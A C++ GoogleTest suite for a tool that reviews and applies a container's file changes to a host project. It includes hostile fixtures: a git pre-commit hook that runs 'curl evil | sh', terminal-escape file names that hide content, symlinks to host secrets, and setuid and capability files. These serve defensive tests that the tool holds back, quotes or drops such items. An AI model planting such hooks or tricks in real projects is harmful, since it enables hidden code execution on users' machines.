// The workspace change set read back from hand-made layers (no container): both whiteout
// forms, opaque directories, copy-ups without a change, every kind of change applied, what
// apply drops (setuid, capabilities), what it refuses (FIFOs, sockets), what it holds back,
// names quoted as git does, the digest, and a volume against its seed base.
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <filesystem>
#include <fstream>

#include "support/hybrid_tree.hpp"
#include "workspace/hybrid_base.hpp"
#include "workspace/quoted_name.hpp"
#include "workspace/review.hpp"
#include "workspace/volume_changes.hpp"
#include "workspace/workspace_changes.hpp"

namespace cc::test {
namespace {

namespace fs = std::filesystem;
using cc::workspace::Change;

void write(const fs::path& p, const std::string& text, mode_t mode = 0644) { write_with_mode(p, text, mode); }
std::string read(const fs::path& p) { return read_whole(p); }

std::string render(const std::vector<Change>& changes) {
  std::string out;
  for (const auto& c : changes) {
    out += c.kind == Change::Kind::added ? "A " : c.kind == Change::Kind::modified ? "M " : "D ";
    out += c.path + "\n";
  }
  return out;
}

class OverlayChangesTest : public HybridTreeTest {
 protected:
  OverlayChangesTest() : HybridTreeTest("cc-overlay") {}
  void standard_layers() {
    write(lower() / "same.txt", "same\n");
    write(lower() / "edit.txt", "old\n");
    write(lower() / "gone-dev.txt", "x\n");
    write(lower() / "gone-xattr.txt", "x\n");
    write(lower() / "opaque" / "hidden.txt", "x\n");
    write(lower() / "opaque" / "kept.txt", "old\n");
    // A copy-up without a change (touch, or open for writing) is not a change.
    write(upper() / "same.txt", "same\n");
    write(upper() / "edit.txt", "new\n");
    write(upper() / "sub" / "added.txt", "added\n");
    ASSERT_EQ(::mknod((upper() / "gone-dev.txt").c_str(), S_IFCHR | 0000, makedev(0, 0)), 0) << std::strerror(errno);
    write(upper() / "gone-xattr.txt", "");
    ASSERT_EQ(::setxattr((upper() / "gone-xattr.txt").c_str(), "user.overlay.whiteout", "y", 1, 0), 0)
        << std::strerror(errno);
    write(upper() / "opaque" / "kept.txt", "new\n");
    ASSERT_EQ(::setxattr((upper() / "opaque").c_str(), "user.overlay.opaque", "y", 1, 0), 0);
  }
  std::vector<Change> changes(bool keep = true) { return workspace::read_changes(layout_, keep); }
  workspace::ApplyReport apply(const workspace::ApplyOptions& options = {}) {
    last_ = changes(false);
    return workspace::apply_changes(layout_, last_, options);
  }
  void expect_no_temporaries() {
    for (const auto& entry : fs::recursive_directory_iterator(lower())) {
      EXPECT_EQ(entry.path().filename().string().find(".cc-apply-"), std::string::npos) << entry.path();
    }
  }
  std::vector<Change> last_;
};

TEST_F(OverlayChangesTest, ListsAddedModifiedAndDeleted) {
  standard_layers();
  EXPECT_EQ(render(changes()),
            "M edit.txt\n"
            "D gone-dev.txt\n"
            "D gone-xattr.txt\n"
            "D opaque/hidden.txt\n"
            "M opaque/kept.txt\n"
            "A sub\n"
            "A sub/added.txt\n");
}

TEST_F(OverlayChangesTest, DiffIsUnifiedAndEndsInAStableDigest) {
  standard_layers();
  auto set = changes();
  std::string diff = workspace::diff_text(set);
  EXPECT_NE(diff.find("--- a/edit.txt\n+++ b/edit.txt\n"), std::string::npos) << diff;
  EXPECT_NE(diff.find("-old\n+new\n"), std::string::npos) << diff;
  EXPECT_NE(diff.find("+++ b/sub/added.txt"), std::string::npos) << diff;
  EXPECT_NE(diff.find("--- a/gone-dev.txt\n+++ /dev/null"), std::string::npos) << diff;
  std::string digest = workspace::change_digest(set);
  EXPECT_EQ(digest.size(), 32u);
  EXPECT_EQ(workspace::change_digest(changes(false)), digest);  // content kept or not
  write(upper() / "edit.txt", "newer\n");
  EXPECT_NE(workspace::change_digest(changes()), digest);
}

TEST_F(OverlayChangesTest, ApplyWritesIntoTheProjectThenNothingIsLeft) {
  standard_layers();
  auto report = apply();
  EXPECT_TRUE(report.refused.empty());
  EXPECT_EQ(read(lower() / "edit.txt"), "new\n");
  EXPECT_EQ(read(lower() / "sub" / "added.txt"), "added\n");
  EXPECT_EQ(read(lower() / "opaque" / "kept.txt"), "new\n");
  EXPECT_FALSE(fs::exists(lower() / "gone-dev.txt"));
  EXPECT_FALSE(fs::exists(lower() / "gone-xattr.txt"));
  EXPECT_FALSE(fs::exists(lower() / "opaque" / "hidden.txt"));
  EXPECT_TRUE(fs::exists(lower() / "same.txt"));
  expect_no_temporaries();
  EXPECT_FALSE(fs::exists(layout_.journal));
  EXPECT_EQ(render(changes()), "");
}

TEST_F(OverlayChangesTest, EveryKindOfChangeApplies) {
  write(lower() / "edit.txt", "one\n");
  write(lower() / "old-name.txt", "moved\n");
  write(lower() / "script.sh", "echo\n", 0644);
  write(lower() / "to-dir", "was a file\n");
  write(lower() / "to-file" / "inner.txt", "inner\n");
  fs::create_symlink("edit.txt", lower() / "relink");
  // The container's side, as overlayfs records it.
  write(upper() / "edit.txt", "two\n");
  ASSERT_EQ(::mknod((upper() / "old-name.txt").c_str(), S_IFCHR, makedev(0, 0)), 0);
  write(upper() / "new-name.txt", "moved\n");
  write(upper() / "script.sh", "echo\n", 0755);
  write(upper() / "blob.bin", std::string("\0\1\2binary\0", 10));
  write(upper() / "to-dir" / "child.txt", "now a dir\n");
  ::setxattr((upper() / "to-dir").c_str(), "user.overlay.opaque", "y", 1, 0);
  write(upper() / "to-file", "now a file\n");
  fs::create_symlink("script.sh", upper() / "relink");
  fs::create_symlink("../outside/secret", upper() / "newlink");
  auto report = apply();
  EXPECT_TRUE(report.refused.empty()) << report.refused.front().second;
  EXPECT_EQ(read(lower() / "edit.txt"), "two\n");
  EXPECT_FALSE(fs::exists(lower() / "old-name.txt"));
  EXPECT_EQ(read(lower() / "new-name.txt"), "moved\n");
  EXPECT_EQ(fs::status(lower() / "script.sh").permissions() & fs::perms::owner_exec, fs::perms::owner_exec);
  EXPECT_EQ(read(lower() / "blob.bin"), std::string("\0\1\2binary\0", 10));
  EXPECT_EQ(read(lower() / "to-dir" / "child.txt"), "now a dir\n");
  EXPECT_EQ(read(lower() / "to-file"), "now a file\n");
  EXPECT_EQ(fs::read_symlink(lower() / "relink"), "script.sh");
  EXPECT_TRUE(fs::is_symlink(lower() / "newlink"));
  EXPECT_EQ(fs::read_symlink(lower() / "newlink"), "../outside/secret");
  expect_no_temporaries();
  EXPECT_EQ(render(changes()), "");
}

TEST_F(OverlayChangesTest, SymlinksAreShownAsLinksNeverFollowed) {
  write(dir_ / "host-secret", "HOST-SECRET-CONTENT\n");
  fs::create_symlink(dir_ / "host-secret", upper() / "notes");
  fs::create_symlink("../host-secret", upper() / "relative");
  auto set = changes();
  std::string shown = workspace::summary_text(set, {}) + workspace::diff_text(set) +
                      workspace::changes_json(set, {}).dump();
  EXPECT_EQ(shown.find("HOST-SECRET-CONTENT"), std::string::npos) << shown;
  EXPECT_NE(shown.find("notes -> " + (dir_ / "host-secret").string()), std::string::npos) << shown;
  EXPECT_NE(shown.find("relative -> ../host-secret"), std::string::npos) << shown;
}

TEST_F(OverlayChangesTest, SetuidSetgidAndCapabilitiesAreShownAndDropped) {
  write(upper() / "suid", "#!/bin/sh\n", 04755);
  write(upper() / "sgid", "#!/bin/sh\n", 02755);
  write(upper() / "capped", "#!/bin/sh\n", 0755);
  // cap_setuid+ep, as setcap writes it (VFS_CAP_REVISION_2).
  const unsigned char cap[20] = {0x01, 0x00, 0x00, 0x02, 0x80, 0x00, 0x00, 0x00, 0x80, 0x00,
                                 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00};
  bool have_cap = ::setxattr((upper() / "capped").c_str(), "security.capability", cap, sizeof(cap), 0) == 0;
  auto set = changes();
  std::string summary = workspace::summary_text(set, {});
  EXPECT_NE(summary.find("suid  (mode 4755; setuid/setgid/sticky dropped, applied as 0755)"), std::string::npos) << summary;
  EXPECT_NE(summary.find("sgid  (mode 2755; setuid/setgid/sticky dropped, applied as 0755)"), std::string::npos) << summary;
  if (have_cap) {
    EXPECT_NE(summary.find("capped  (mode 0755; file capabilities dropped)"), std::string::npos) << summary;
  }
  apply();
  for (const char* name : {"suid", "sgid", "capped"}) {
    struct stat st {};
    ASSERT_EQ(::lstat((lower() / name).c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 07777, 0755u) << name;
    char buf[64];
    EXPECT_LT(::lgetxattr((lower() / name).c_str(), "security.capability", buf, sizeof(buf)), 0) << name;
  }
}

TEST_F(OverlayChangesTest, FifosAndSocketsAreNamedNeverOpenedNeverApplied) {
  ASSERT_EQ(::mkfifo((upper() / "pipe").c_str(), 0644), 0);
  int s = ::socket(AF_UNIX, SOCK_STREAM, 0);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::string sock = (upper() / "sock").string();
  std::strncpy(addr.sun_path, sock.c_str(), sizeof(addr.sun_path) - 1);
  ASSERT_EQ(::bind(s, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0);
  ::close(s);
  write(upper() / "ok.txt", "ok\n");
  // Reading the FIFO would block this test forever; the review must not.
  auto set = changes();
  std::string summary = workspace::summary_text(set, {});
  EXPECT_NE(summary.find("pipe  (fifo; never applied)  [refused: a fifo is not project content]"), std::string::npos) << summary;
  EXPECT_NE(summary.find("sock  (socket; never applied)  [refused: a socket is not project content]"), std::string::npos) << summary;
  auto report = apply();
  EXPECT_EQ(report.refused.size(), 2u);
  EXPECT_FALSE(fs::exists(fs::symlink_status(lower() / "pipe")));
  EXPECT_FALSE(fs::exists(fs::symlink_status(lower() / "sock")));
  EXPECT_EQ(read(lower() / "ok.txt"), "ok\n");
}

TEST_F(OverlayChangesTest, ControlCharactersInNamesAreQuotedAsGitDoes) {
  std::string evil = "zz\x1b[1A\x1b[2K\rmodified\tfile.txt";
  write(upper() / evil, "x\n");
  write(upper() / "caf\xc3\xa9", "x\n");
  auto set = changes();
  std::string names = workspace::names_text(set);
  EXPECT_EQ(names,
            "added\t\"caf\\303\\251\"\n"
            "added\t\"zz\\033[1A\\033[2K\\rmodified\\tfile.txt\"\n");
  std::string all = workspace::summary_text(set, {}) + workspace::diff_text(set);
  EXPECT_EQ(all.find('\x1b'), std::string::npos) << all;
  EXPECT_EQ(all.find('\r'), std::string::npos) << all;
  // --json carries the exact name.
  auto json = workspace::changes_json(set, {});
  EXPECT_EQ(json[1]["path"], evil);
  EXPECT_NE(json.dump().find("\\u001b[1A"), std::string::npos);
}

TEST_F(OverlayChangesTest, EscapesInFileContentAreMadeVisible) {
  write(lower() / "a.txt", "line one\n");
  write(upper() / "a.txt", "line one\n\x1b[1A\x1b[2Khidden\n");
  std::string diff = workspace::diff_text(changes());
  EXPECT_EQ(diff.find('\x1b'), std::string::npos) << diff;
  EXPECT_NE(diff.find("+\\x1b[1A\\x1b[2Khidden"), std::string::npos) << diff;
}

TEST_F(OverlayChangesTest, GitAndControlFilesAreHeldBackUntilAskedFor) {
  write(lower() / ".git" / "HEAD", "ref: refs/heads/main\n");
  write(upper() / ".git" / "hooks" / "pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0755);
  write(upper() / ".envrc", "export X=1\n");
  write(upper() / "src.c", "int x;\n");
  write(lower() / "vendor" / "lib" / ".git" / "HEAD", "ref: refs/heads/main\n");
  write(upper() / "vendor" / "lib" / ".git" / "hooks" / "post-merge", "#!/bin/sh\n", 0755);  // a nested repository
  auto set = changes();
  EXPECT_NE(workspace::summary_text(set, {}).find("[held back: under .git; `apply --include-git` takes it]"),
            std::string::npos);
  auto report = apply();
  EXPECT_EQ(report.held_back.size(), 5u);  // .git/hooks(/pre-commit), .envrc, vendor/lib/.git/hooks(/post-merge)
  EXPECT_FALSE(fs::exists(lower() / "vendor" / "lib" / ".git" / "hooks"));
  // What was taken leaves the change layer (so it cannot hide later host edits); the rest stays.
  workspace::settle_after_apply(layout_, report);
  EXPECT_FALSE(fs::exists(upper() / "src.c"));
  EXPECT_TRUE(fs::exists(upper() / ".envrc"));
  EXPECT_EQ(render(changes()), "A .envrc\nA .git/hooks\nA .git/hooks/pre-commit\nA vendor/lib/.git/hooks\nA vendor/lib/.git/hooks/post-merge\n");
  EXPECT_FALSE(fs::exists(lower() / ".git" / "hooks" / "pre-commit"));
  EXPECT_FALSE(fs::exists(lower() / ".envrc"));
  EXPECT_EQ(read(lower() / "src.c"), "int x;\n");
  workspace::ApplyOptions take;
  take.include_git = true;
  take.include_paths = {".envrc"};
  report = apply(take);
  EXPECT_TRUE(report.held_back.empty());
  EXPECT_EQ(read(lower() / ".git" / "hooks" / "pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
  EXPECT_EQ(read(lower() / ".envrc"), "export X=1\n");
}

TEST_F(OverlayChangesTest, AProjectFileChangedAfterTheReviewIsRefused) {
  write(lower() / "a.txt", "old\n");
  write(upper() / "a.txt", "container\n");
  write(upper() / "b.txt", "new\n");
  auto reviewed = changes(false);
  write(lower() / "a.txt", "the user's own edit\n");
  auto report = workspace::apply_changes(layout_, reviewed, {});
  ASSERT_EQ(report.refused.size(), 1u);
  EXPECT_EQ(report.refused[0].first->path, "a.txt");
  EXPECT_NE(report.refused[0].second.find("changed since the review"), std::string::npos);
  EXPECT_EQ(read(lower() / "a.txt"), "the user's own edit\n");
  EXPECT_EQ(read(lower() / "b.txt"), "new\n");
  workspace::ApplyOptions force;
  force.force = true;
  report = workspace::apply_changes(layout_, reviewed, force);
  EXPECT_TRUE(report.refused.empty());
  EXPECT_EQ(read(lower() / "a.txt"), "container\n");
}

TEST_F(OverlayChangesTest, SymlinkedParentsInTheProjectAreNeverFollowed) {
  fs::create_directories(dir_ / "elsewhere");
  fs::create_symlink(dir_ / "elsewhere", lower() / "linked");
  write(upper() / "linked" / "planted.txt", "x\n");  // the container sees its own directory
  ::setxattr((upper() / "linked").c_str(), "user.overlay.opaque", "y", 1, 0);
  auto report = apply();
  EXPECT_FALSE(fs::exists(dir_ / "elsewhere" / "planted.txt"));
}

TEST_F(OverlayChangesTest, ADeletionBelowADirectoryTheHostTurnedIntoALinkIsRefused) {
  write(lower() / "dir" / "victim.txt", "x\n");
  fs::create_directory(upper() / "dir");
  ASSERT_EQ(::mknod((upper() / "dir" / "victim.txt").c_str(), S_IFCHR, makedev(0, 0)), 0);
  auto reviewed = changes(false);
  // After the review the host (or anything) swaps the directory for a link to elsewhere.
  write(dir_ / "elsewhere" / "victim.txt", "must stay\n");
  fs::rename(lower() / "dir", dir_ / "old-dir");
  fs::create_directory_symlink(dir_ / "elsewhere", lower() / "dir");
  workspace::ApplyOptions force;
  force.force = true;
  auto report = workspace::apply_changes(layout_, reviewed, force);
  ASSERT_EQ(report.refused.size(), 1u);
  EXPECT_NE(report.refused[0].second.find("never followed"), std::string::npos) << report.refused[0].second;
  EXPECT_EQ(read(dir_ / "elsewhere" / "victim.txt"), "must stay\n");
}

TEST_F(OverlayChangesTest, JournaledTemporariesAreRemovedByTheNextRun) {
  write(lower() / "keep.txt", "keep\n");
  write(lower() / ".cc-apply-1-0", "a temporary an apply left\n");
  fs::create_directories(layout_.journal.parent_path());
  std::ofstream(layout_.journal) << "cc-apply-journal 1\n"
                                 << " " << "2e63632d6170706c792d312d30" << "\n";  // "" / ".cc-apply-1-0"
  EXPECT_EQ(workspace::recover_interrupted_apply(layout_), 1);
  EXPECT_FALSE(fs::exists(lower() / ".cc-apply-1-0"));
  EXPECT_TRUE(fs::exists(lower() / "keep.txt"));
  EXPECT_FALSE(fs::exists(layout_.journal));
}

TEST_F(OverlayChangesTest, HostChangesSinceTheContainersCopyAreConflicts) {
  layout_.hybrid_base = dir_ / "state" / "hybrid-base";
  fs::create_directories(layout_.hybrid_base.parent_path());
  write(lower() / "both.txt", "base\n");
  write(lower() / "container-only.txt", "base\n");
  write(lower() / "dir" / "inner.txt", "base\n");
  workspace::record_hybrid_base(lower(), upper(), layout_.hybrid_base);  // the container starts
  write(upper() / "both.txt", "container\n");
  write(upper() / "container-only.txt", "container\n");
  ASSERT_EQ(::mknod((upper() / "dir").c_str(), S_IFCHR, makedev(0, 0)), 0);  // rm -rf dir
  // The host edits both.txt and dir/inner.txt underneath.
  write(lower() / "both.txt", "host\n");
  write(lower() / "dir" / "inner.txt", "host edit\n");
  // A restart keeps the stamps of what the layer covers.
  workspace::record_hybrid_base(lower(), upper(), layout_.hybrid_base);
  auto set = changes();
  EXPECT_EQ(render(set), "M both.txt\nM container-only.txt\nD dir\nD dir/inner.txt\n");
  EXPECT_TRUE(set[0].conflict);
  EXPECT_FALSE(set[1].conflict);
  EXPECT_TRUE(set[3].conflict);
  EXPECT_NE(workspace::summary_text(set, {}).find("both.txt  (CONFLICT"), std::string::npos);
  auto report = apply();
  EXPECT_EQ(report.refused.size(), 3u);  // both.txt, dir/inner.txt, and dir (not empty)
  EXPECT_EQ(read(lower() / "both.txt"), "host\n");
  EXPECT_EQ(read(lower() / "container-only.txt"), "container\n");
  workspace::ApplyOptions force;
  force.force = true;
  report = apply(force);
  EXPECT_TRUE(report.refused.empty());
  EXPECT_EQ(read(lower() / "both.txt"), "container\n");
  EXPECT_FALSE(fs::exists(lower() / "dir"));
}

TEST_F(OverlayChangesTest, DiscardEmptiesUpperAndWork) {
  standard_layers();
  ::chmod((layout_.work / "work").c_str(), 0);  // as overlayfs leaves it
  workspace::discard_changes(layout_);
  EXPECT_TRUE(fs::is_empty(upper()));
  EXPECT_TRUE(fs::is_empty(layout_.work));
  EXPECT_EQ(read(lower() / "edit.txt"), "old\n");
}

TEST(VolumeChangesTest, ComparesAgainstTheSeedAndFlagsConflicts) {
  TempDir dir("cc-volume");
  workspace::WorkspaceLayout layout;
  layout.kind = workspace::StorageKind::volume;
  layout.project = dir.path() / "project";
  layout.changes = dir.path() / "volume";
  layout.seed_base = dir.path() / "seed-base";
  layout.journal = dir.path() / "journal";
  write(layout.project / "a.txt", "a\n");
  write(layout.project / "b.txt", "b\n");
  write(layout.project / "c.txt", "c\n");
  fs::copy(layout.project, layout.changes, fs::copy_options::recursive);
  workspace::record_seed_base(layout.changes, layout.seed_base);
  EXPECT_EQ(render(workspace::read_changes(layout, false)), "");
  // The host moves on: that is not a container change.
  write(layout.project / "host-only.txt", "h\n");
  write(layout.project / "c.txt", "host edit\n");
  EXPECT_EQ(render(workspace::read_changes(layout, false)), "");
  // The container changes a, deletes b, edits c (which the host edited too).
  write(layout.changes / "a.txt", "a2\n");
  fs::remove(layout.changes / "b.txt");
  write(layout.changes / "c.txt", "container edit\n");
  auto set = workspace::read_changes(layout, false);
  EXPECT_EQ(render(set), "M a.txt\nD b.txt\nM c.txt\n");
  EXPECT_FALSE(set[0].conflict);
  EXPECT_TRUE(set[2].conflict);
  auto report = workspace::apply_changes(layout, set, {});
  workspace::settle_after_apply(layout, report);
  ASSERT_EQ(report.refused.size(), 1u);
  EXPECT_EQ(read(layout.project / "a.txt"), "a2\n");
  EXPECT_FALSE(fs::exists(layout.project / "b.txt"));
  EXPECT_EQ(read(layout.project / "c.txt"), "host edit\n");
  EXPECT_EQ(render(workspace::read_changes(layout, false)), "M c.txt\n");
  workspace::discard_changes(layout);
  EXPECT_EQ(read(layout.changes / "c.txt"), "host edit\n");
  EXPECT_EQ(render(workspace::read_changes(layout, false)), "");
}

TEST(QuotePathTest, MatchesGitCoreQuotePath) {
  EXPECT_EQ(workspace::quote_path("plain/name.txt"), "plain/name.txt");
  EXPECT_EQ(workspace::quote_path("tab\there"), "\"tab\\there\"");
  EXPECT_EQ(workspace::quote_path("q\"b\\"), "\"q\\\"b\\\\\"");
  EXPECT_EQ(workspace::quote_path("del\x7f"), "\"del\\177\"");
  EXPECT_EQ(workspace::quote_path("\xc3\xa9"), "\"\\303\\251\"");
}

}  // namespace
}  // namespace cc::test
